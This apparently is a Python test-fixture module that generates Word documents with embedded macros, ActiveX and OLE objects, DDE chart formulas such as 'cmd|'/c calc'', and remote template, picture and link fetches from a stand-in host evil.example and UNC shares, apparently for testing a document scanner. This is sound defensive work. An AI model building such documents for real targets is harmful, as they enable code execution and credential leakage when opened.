"""Word files that fetch or run something by themselves."""

from __future__ import annotations

from functools import partial

from making import (
    GOOD,
    NAMESPACES,
    OLE,
    Attack,
    letter,
    override,
    parts,
    relation,
    relations,
    zipped,
)
from sound import with_chart, with_keys, with_template


def _linked(kind: str, target: str, *, outside: bool = False) -> bytes:
    return letter(GOOD, links=(relation(kind, target, outside=outside),))


def _embedded(name: str, content: bytes, kind: str, of_type: str) -> bytes:
    made = parts(GOOD, links=(relation(kind, name),), types=override(f"word/{name}", of_type))
    return zipped(made | {f"word/{name}": content})


PROGRAMS: dict[str, Attack] = {
    "macros": Attack(
        lambda: _embedded(
            "vbaProject.bin",
            OLE,
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "application/vnd.ms-office.vbaProject",
        ),
        "macros",
    ),
    "macros that nothing points to": Attack(
        lambda: zipped(parts(GOOD) | {"word/vbaProject.bin": b"x"}), "macros"
    ),
    "macros under another name": Attack(
        lambda: _embedded(
            "image1.bin",
            b"x",
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "application/octet-stream",
        ),
        "macros",
    ),
    "a shortcut key for a macro": Attack(
        lambda: with_keys("<wne:macro wne:macroName='NORMAL.NEWMACROS.EVIL'/>"), "run macros"
    ),
    "ActiveX": Attack(
        lambda: _embedded(
            "activeX1.xml", b"<x/>", "control", "application/vnd.ms-office.activeX+xml"
        ),
        "another program",
    ),
    "a control in the text": Attack(
        lambda: letter(GOOD, '<w:p><w:r><w:control r:id="rId1" w:name="x"/></w:r></w:p>'), "ActiveX"
    ),
    "an OLE object": Attack(
        lambda: _embedded("embeddings/o.bin", OLE, "oleObject", "application/octet-stream"),
        "another program",
    ),
    "an OLE object as a picture": Attack(
        lambda: _embedded("media/image1.png", OLE + bytes(99), "image", "image/png"),
        "another program",
    ),
    "a linked OLE object": Attack(
        lambda: _linked("oleObject", "file:///C:/evil.doc", outside=True), "another program"
    ),
    "an OLE object in the text": Attack(
        lambda: letter(
            GOOD,
            '<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="rId1"/></w:object></w:r></w:p>',
        ),
        "another program",
    ),
    "a spreadsheet inside": Attack(
        lambda: _embedded("embeddings/t.xlsx", b"x", "package", "application/octet-stream"),
        "another program",
    ),
    **{
        f"a chart whose table {does}": Attack(make, "a chart with data")
        for does, make in {
            "fetches a page": lambda: with_chart('<c><f>_xlfn.WEBSERVICE("https://e.x")</f></c>'),
            "starts a program": lambda: with_chart("<c><f>cmd|'/c calc'!A0</f></c>"),
            "has macros": lambda: with_chart(workbook=(relation("vbaProject", "v", number=2),)),
            "has data elsewhere": lambda: with_chart(
                workbook=(relation("styles", "http://evil.example/s", outside=True, number=2),)
            ),
            "holds an object": lambda: with_chart('<oleObj r:id="x" xmlns:r="urn:r"/>'),
        }.items()
    },
    "a chart whose table is of another kind": Attack(
        lambda: with_chart(kind="template"), "another program"
    ),
    "a web page inside": Attack(
        lambda: _embedded("chunk.html", b"<html/>", "aFChunk", "text/html"), "another program"
    ),
    "a chunk in the text": Attack(
        lambda: letter(GOOD, '<w:altChunk r:id="rId1"/>'), "another document"
    ),
    "a chunk from elsewhere": Attack(
        lambda: _linked("aFChunk", "http://evil.example/x.docx", outside=True), "another document"
    ),
    "an add-in": Attack(
        lambda: _linked(
            "http://schemas.microsoft.com/office/2011/relationships/webextension", "w.xml"
        ),
        "add-in",
    ),
    "a signature that filling would break": Attack(
        lambda: _linked(
            "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin",
            "../_xmlsignatures/origin.sigs",
        ),
        "is signed",
    ),
    "own buttons": Attack(
        lambda: _linked(
            "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "ui.xml"
        ),
        "buttons",
    ),
}

_SETTINGS = f"<w:settings {NAMESPACES}>%s</w:settings>"

FETCHED: dict[str, Attack] = {
    "a template from the web": Attack(
        lambda: _linked("attachedTemplate", "http://evil.example/x.dotm", outside=True),
        "a template",
    ),
    "a template on a share": Attack(
        lambda: _linked("attachedTemplate", "file:///\\\\evil\\x.dotm", outside=True), "a template"
    ),
    **{
        f"a template at {target!r}": Attack(partial(with_template, target), "a template")
        for target in ("file://evil/x.dotm", "//evil/x.dotm", "file:///%5C%5Cevil/x", "https:x")
    },
    "a template in the settings": Attack(
        lambda: letter(GOOD, word__settings=_SETTINGS % '<w:attachedTemplate r:id="rId1"/>'),
        "a template",
    ),
    "a picture from the web": Attack(
        lambda: _linked("image", "http://evil.example/x.png", outside=True), "a picture"
    ),
    "a picture from the web in VML": Attack(
        lambda: letter(
            GOOD,
            '<w:p><w:r><w:pict><v:shape><v:imagedata src="//evil.example/x.png"/></v:shape>'
            "</w:pict></w:r></w:p>",
        ),
        "a picture",
    ),
    "a picture without saying external": Attack(
        lambda: _linked("image", "http://evil.example/x.png"), "from elsewhere"
    ),
    "a picture on a share": Attack(lambda: _linked("image", "\\\\evil\\x.png"), "from elsewhere"),
    "frames": Attack(lambda: _linked("frame", "http://evil.example/x.htm", outside=True), "frames"),
    "a set of frames": Attack(
        lambda: letter(
            GOOD, word__webSettings=f"<w:webSettings {NAMESPACES}><w:frameset/></w:webSettings>"
        ),
        "frames",
    ),
    "a sub-document": Attack(
        lambda: _linked("subDocument", "file:///C:/x.docx", outside=True), "fetches others"
    ),
    "a sub-document in the text": Attack(
        lambda: letter(GOOD, '<w:subDoc r:id="rId1"/>'), "fetches others"
    ),
    "a mail merge": Attack(
        lambda: letter(
            GOOD, word__settings=_SETTINGS % '<w:mailMerge><w:query w:val="DROP"/></w:mailMerge>'
        ),
        "mail merge",
    ),
    "a source of addresses": Attack(
        lambda: _linked("mailMergeSource", "file:///C:/x.mdb", outside=True), "addresses"
    ),
    "a stylesheet to run": Attack(
        lambda: letter(GOOD, word__settings=_SETTINGS % '<w:saveThroughXslt r:id="rId1"/>'), "XSLT"
    ),
    "a link to a program": Attack(
        lambda: _linked("hyperlink", "file:///C:/Windows/System32/calc.exe", outside=True), "a link"
    ),
    "a link to a script": Attack(
        lambda: _linked("hyperlink", "javascript:alert(1)", outside=True), "a link"
    ),
    "a link to a share": Attack(
        lambda: _linked("hyperlink", "\\\\evil\\x", outside=True), "a link"
    ),
    "a link to an Office command": Attack(
        lambda: _linked("hyperlink", "ms-word:ofe|u|http://evil.example/x", outside=True), "a link"
    ),
    "an unknown thing from outside": Attack(
        lambda: _linked("http://evil.example/new", "http://evil.example/x", outside=True),
        "from elsewhere",
    ),
    "a video from the web": Attack(lambda: letter(GOOD, "<w:p><w:webVideoPr/></w:p>"), "a video"),
    "a way out by a link inside": Attack(
        lambda: _linked("image", "../../../x.png"), "points outside"
    ),
    "a link to a program in VML": Attack(
        lambda: letter(
            GOOD, '<w:p><w:r><w:pict><v:shape href="file:///c:/x.exe"/></w:pict></w:r></w:p>'
        ),
        "a link",
    ),
    "a manifest of a smart document": Attack(
        lambda: letter(
            GOOD,
            word__settings=_SETTINGS
            % '<sl:schemaLibrary xmlns:sl="urn:sl"><sl:schema sl:manifestLocation="http://evil.example"/>'
            "</sl:schemaLibrary>",
        ),
        "from elsewhere",
    ),
    "a template in links of UTF-16, in capitals": Attack(
        lambda: zipped(
            parts(GOOD)
            | {
                "word/_rels/settings.xml.RELS": relations(
                    relation("ATTACHEDTEMPLATE", "http://evil.example/x.dotm", outside=True)
                )
                .replace("UTF-8", "UTF-16")
                .encode("utf-16")
            }
        ),
        "a template",
    ),
    "something fetched by a header": Attack(
        lambda: zipped(
            parts(GOOD)
            | {
                "word/_rels/header1.xml.rels": relations(
                    relation("image", "http://evil.example/x.png", outside=True)
                ).encode()
            }
        ),
        "a picture",
    ),
}
